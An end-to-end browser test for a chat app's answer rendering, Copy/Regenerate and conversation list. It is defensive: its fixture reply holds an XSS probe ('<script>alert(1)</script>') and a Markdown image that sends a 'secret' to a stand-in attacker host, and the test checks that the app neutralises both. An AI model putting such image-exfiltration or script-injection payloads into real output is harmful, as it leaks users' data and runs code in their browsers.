// The chat page's conversation list and answer tools in headless Chromium against a real Parley
// server and the stub model provider: answers shown as sanitised Markdown (code highlighted, no
// image, raw HTML as text, links that leave safely), Copy and Regenerate, and the list of the
// caller's conversations (open, search, rename, delete).
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ensureWebBuild, launchChromium, listen, screenshot } from '../support/browser.js';
import { type ChatFixture, startChatFixture } from '../support/chat-fixture.js';
import { TIDES_WITH_SUN } from '../support/documents.js';
import { call } from '../support/http.js';
import type { StubProvider } from '../support/stub-provider/index.js';
import { eventually, type TestServer } from '../support/test-backend.js';

const MARKDOWN_REPLY = [
  'The **Moon** pulls the oceans [1]. See [the tide tables](https://example.org/tables).',
  '',
  '```js',
  'const height = moonPull + sunPull; // metres',
  '```',
  '',
  '- `work_mem` and <script>alert(1)</script> stay text',
  '- ![tracker](https://evil.example/leak?q=secret)',
].join('\n');
const PLAIN_REPLY = 'Tides come from the pull of the Moon [1].';

const lastAnswer = (page: Page) => page.locator('article.message.assistant').last();
const waitDone = (page: Page) =>
  page.waitForFunction(`(() => {
    const answer = [...document.querySelectorAll('article.message.assistant')].pop();
    return answer && answer.dataset.status === 'done';
  })()`);

describe('the chat page: Markdown answers, copy, regenerate and the conversation list', () => {
  let fixture: ChatFixture;
  let stub: StubProvider;
  let server: TestServer;
  let browser: Browser;
  let page: Page;
  let origin: string;

  beforeAll(async () => {
    ensureWebBuild();
    fixture = await startChatFixture({ models: 'openai:small-model', documents: [TIDES_WITH_SUN] });
    ({ stub, server } = fixture);
    origin = await listen(server);
    browser = await launchChromium();
    const context = await browser.newContext({ viewport: { width: 1100, height: 760 }, bypassCSP: true });
    await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin });
    page = await context.newPage();
  });
  afterAll(async () => {
    await browser?.close();
    await fixture?.close();
  });

  const ask = async (question: string) => {
    const input = page.getByLabel('Your message');
    await input.fill(question);
    await input.press('Enter');
    await waitDone(page);
  };
  /** Waits until the page's list shows these conversation titles, in this order. */
  const titles = (expected: string[]) =>
    eventually(async () => {
      const shown = await page.locator('nav.conversations li button.open').allTextContents();
      return JSON.stringify(shown) === JSON.stringify(expected) ? shown : undefined;
    });

  it('shows an answer as sanitised Markdown with highlighted code, and copies it', async () => {
    stub.setReply(MARKDOWN_REPLY);
    await page.goto(`${origin}/`);
    await ask('What causes the tides?');
    const answer = lastAnswer(page).locator('.answer-text');
    await expect(answer.locator('strong').textContent()).resolves.toBe('Moon');
    // Code is code, highlighted; names keep their underscores.
    await expect(answer.locator('pre code.language-js').textContent()).resolves.toContain(
      'moonPull + sunPull',
    );
    await expect(answer.locator('pre code .hljs-keyword').first().textContent()).resolves.toBe('const');
    await expect(answer.locator('li code').textContent()).resolves.toBe('work_mem');
    // Raw HTML is text, an image is never loaded, a link leaves in a new tab without a referrer.
    expect(await answer.locator('script').count()).toBe(0);
    await expect(answer.locator('li').first().textContent()).resolves.toContain('<script>alert(1)</script>');
    expect(await answer.locator('img').count()).toBe(0);
    await expect(answer.locator('li').nth(1).textContent()).resolves.toBe('tracker');
    const link = answer.locator('a[href="https://example.org/tables"]');
    await expect(link.getAttribute('rel')).resolves.toBe('noopener noreferrer nofollow');
    await expect(link.getAttribute('target')).resolves.toBe('_blank');
    // The [1] marker still opens its source.
    await answer.locator('a.cite-marker').click();
    await lastAnswer(page).locator('.citations details[open] .cite-snippet').waitFor();

    await lastAnswer(page).getByRole('button', { name: 'Copy' }).click();
    await lastAnswer(page).getByRole('button', { name: 'Copied' }).waitFor();
    await expect(page.evaluate('navigator.clipboard.readText()')).resolves.toBe(MARKDOWN_REPLY);
    await screenshot(page, 'page-markdown');
  });

  it('regenerates the latest answer: the new one replaces it on screen', async () => {
    stub.setReply(PLAIN_REPLY);
    const answers = page.locator('article.message.assistant');
    const before = await answers.count();
    // Only the latest answer offers Regenerate.
    await ask('And the Sun?');
    expect(await answers.count()).toBe(before + 1);
    await expect(answers.first().getByRole('button', { name: 'Regenerate' }).count()).resolves.toBe(0);
    const chatRequests = () => stub.requests.filter((request) => request.path === '/v1/chat/completions');
    const requests = chatRequests().length;
    stub.setReply('Regenerated: the Sun adds a smaller pull [1].');
    await lastAnswer(page).getByRole('button', { name: 'Regenerate' }).click();
    await page.locator('article.message.assistant', { hasText: 'Regenerated:' }).waitFor();
    await waitDone(page);
    expect(await answers.count()).toBe(before + 1);
    expect(chatRequests().length).toBeGreaterThan(requests);
    // The question was asked again as it was, without the answer it replaces in the history.
    const asked = JSON.stringify(chatRequests().at(-1)?.body);
    expect(asked).toContain('And the Sun?');
    expect(asked).not.toContain('Tides come from the pull');
    // The server holds the new answer in place of the old one.
    const id = (await page.evaluate(`localStorage.getItem('parley.page.conversation')`)) as string;
    const stored = await eventually(async () => {
      const response = await call<{ messages: { content: string }[] }>(server.parley.app, {
        method: 'GET',
        url: `/v1/conversations/${id}`,
      });
      return response.body.messages.at(-1)?.content.startsWith('Regenerated:')
        ? response.body.messages
        : undefined;
    });
    expect(stored.map((message) => message.content).filter((text) => text === 'And the Sun?')).toHaveLength(
      1,
    );
    expect(stored.some((message) => message.content === PLAIN_REPLY)).toBe(false);
  });

  it('lists the conversations, opens, searches, renames and deletes them', async () => {
    const first = (await page.evaluate(`localStorage.getItem('parley.page.conversation')`)) as string;
    // The list shows the conversation once its first turn is stored.
    await titles(['What causes the tides?']);
    await expect(page.locator('nav.conversations li.current button.open').textContent()).resolves.toBe(
      'What causes the tides?',
    );

    // A new chat, then a second conversation.
    await page.getByRole('button', { name: 'New chat' }).click();
    expect(await page.locator('article.message').count()).toBe(0);
    stub.setReply(PLAIN_REPLY);
    await ask('Why are there two high tides a day?');
    await titles(['Why are there two high tides a day?', 'What causes the tides?']);

    // Opening the first shows its messages.
    await page
      .locator('nav.conversations')
      .getByRole('button', { name: 'What causes the tides?', exact: true })
      .click();
    await page.locator('article.message.user', { hasText: 'And the Sun?' }).waitFor();
    await expect(page.evaluate(`localStorage.getItem('parley.page.conversation')`)).resolves.toBe(first);

    // Search by title.
    await page.getByLabel('Search conversations').fill('two high');
    await titles(['Why are there two high tides a day?']);
    await page.getByLabel('Search conversations').fill('');
    await titles(['Why are there two high tides a day?', 'What causes the tides?']);

    // Rename: the server has the new title.
    await page.getByRole('button', { name: 'Rename What causes the tides?' }).click();
    await page.getByLabel('New title').fill('Moon and tides');
    await page.getByLabel('New title').press('Enter');
    // A new title is not a new message: the order stays.
    await titles(['Why are there two high tides a day?', 'Moon and tides']);
    const renamed = await call<{ title: string }>(server.parley.app, {
      method: 'GET',
      url: `/v1/conversations/${first}/export`,
    });
    expect(renamed.body.title).toBe('Moon and tides');
    await screenshot(page, 'page-conversations');

    // Delete the one shown (confirmed): the chat leaves it, the server no longer has it.
    page.once('dialog', (dialog) => void dialog.accept());
    await page.getByRole('button', { name: 'Delete Moon and tides' }).click();
    await titles(['Why are there two high tides a day?']);
    expect(await page.locator('article.message').count()).toBe(0);
    const gone = await call(server.parley.app, { method: 'GET', url: `/v1/conversations/${first}` });
    expect(gone.status).toBe(404);
  });
});
